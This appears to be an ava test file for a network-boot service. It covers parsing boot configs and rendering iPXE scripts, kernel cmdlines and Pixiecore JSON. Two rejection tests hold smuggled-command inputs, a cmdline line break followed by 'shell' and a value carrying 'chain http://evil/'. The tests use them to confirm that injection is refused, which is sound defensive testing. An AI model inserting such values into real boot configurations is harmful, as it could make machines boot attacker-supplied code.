import test from 'ava';
import { resolveAssetUrl } from '../../src/render/assets.ts';
import { renderCmdline } from '../../src/render/cmdline.ts';
import { renderIpxeScript } from '../../src/render/ipxe-script.ts';
import { renderPixiecore } from '../../src/render/pixiecore.ts';
import { parseBootConfig } from '../../src/store/boot-config.ts';

const BASE = 'http://10.9.0.1:8080';

test('a minimal boot config gets empty initrd and cmdline', (t) => {
  t.deepEqual(parseBootConfig('{"kernel": "/images/k"}'), { kernel: '/images/k', initrd: [], cmdline: '' });
});

const broken: [string, string, RegExp][] = [
  ['not JSON', '{"kernel": ', /not valid JSON/],
  ['no kernel', '{"initrd": []}', /kernel/],
  ['empty kernel', '{"kernel": " "}', /kernel: kernel is empty/],
  ['a kernel URL with a space', '{"kernel": "/images/my kernel"}', /kernel must not contain spaces/],
  ['a line break in the cmdline (would inject iPXE commands)', '{"kernel": "k", "cmdline": "quiet\\nshell"}', /cmdline must not contain line breaks/],
  ['a line break in a cmdline value', '{"kernel": "k", "cmdline": {"a": "1\\nchain http://evil/"}}', /line breaks/],
  ['a cmdline key with =', '{"kernel": "k", "cmdline": {"a=b": "1"}}', /cmdline key/],
  ['initrd not a list', '{"kernel": "k", "initrd": "i"}', /initrd/],
  ['cmdline number', '{"kernel": "k", "cmdline": 3}', /cmdline must be a string or an object/],
  ['cmdline flag false', '{"kernel": "k", "cmdline": {"quiet": false}}', /cmdline/],
  ['unknown field (a typo)', '{"kernel": "k", "initrds": ["i"]}', /initrds/],
];
for (const [name, text, reason] of broken) {
  test(`rejects a boot config with ${name}`, (t) => {
    const err = t.throws(() => parseBootConfig(text));
    t.regex(err!.message, reason);
  });
}

test('object cmdline renders sorted k=v, flags bare, {{base_url}} substituted', (t) => {
  t.is(
    renderCmdline({ z: 'last', console: 'ttyS0', quiet: true, 'coreos.autologin': '', url: '{{base_url}}/cloud?uuid=${uuid}' }, BASE),
    'console=ttyS0 coreos.autologin quiet url=http://10.9.0.1:8080/cloud?uuid=${uuid} z=last',
  );
  t.is(renderCmdline('  root=/dev/sda1 ro ', BASE), 'root=/dev/sda1 ro');
});

test('asset paths resolve against base-url (with its prefix), URLs stay', (t) => {
  t.is(resolveAssetUrl('/images/k', BASE), `${BASE}/images/k`);
  t.is(resolveAssetUrl('images/k', BASE), `${BASE}/images/k`);
  t.is(resolveAssetUrl('/images/k', 'http://h/boot/'), 'http://h/boot/images/k');
  t.is(resolveAssetUrl('http://mirror/k', BASE), 'http://mirror/k');
  t.is(resolveAssetUrl('{{base_url}}/images/k', BASE), `${BASE}/images/k`);
});

test('iPXE script: kernel with initrd names for the EFI stub, one initrd line each, boot', (t) => {
  const script = renderIpxeScript(parseBootConfig(JSON.stringify({ kernel: '/images/k', initrd: ['/images/a.gz', 'http://m/b.gz'], cmdline: { console: 'ttyS0', quiet: true } })), BASE);
  t.is(
    script,
    ['#!ipxe', `kernel ${BASE}/images/k initrd=initrd0 initrd=initrd1 console=ttyS0 quiet`, `initrd --name initrd0 ${BASE}/images/a.gz`, 'initrd --name initrd1 http://m/b.gz', 'boot', ''].join('\n'),
  );
});

test('iPXE script: an author-given initrd= is left alone; no initrd, no initrd=', (t) => {
  const own = renderIpxeScript(parseBootConfig('{"kernel": "/k", "initrd": ["/i"], "cmdline": "initrd=initrd0 ro"}'), BASE);
  t.is(own.split('\n')[1], `kernel ${BASE}/k initrd=initrd0 ro`);
  const none = renderIpxeScript(parseBootConfig('{"kernel": "/k"}'), BASE);
  t.is(none, `#!ipxe\nkernel ${BASE}/k\nboot\n`);
});

test('Pixiecore JSON: flags are true, empty cmdline omitted, URLs absolute', (t) => {
  t.deepEqual(renderPixiecore(parseBootConfig('{"kernel": "/k", "initrd": ["/i"], "cmdline": {"b": "2", "a": "", "q": true}, "message": "hi"}'), BASE), {
    kernel: `${BASE}/k`,
    initrd: [`${BASE}/i`],
    cmdline: { a: true, b: '2', q: true },
    message: 'hi',
  });
  t.deepEqual(renderPixiecore(parseBootConfig('{"kernel": "/k"}'), BASE), { kernel: `${BASE}/k`, initrd: [] });
  t.deepEqual(renderPixiecore(parseBootConfig('{"kernel": "/k", "cmdline": "a=1 {{ URL \\"x\\" }}"}'), BASE).cmdline, 'a=1 {{ URL "x" }}');
});
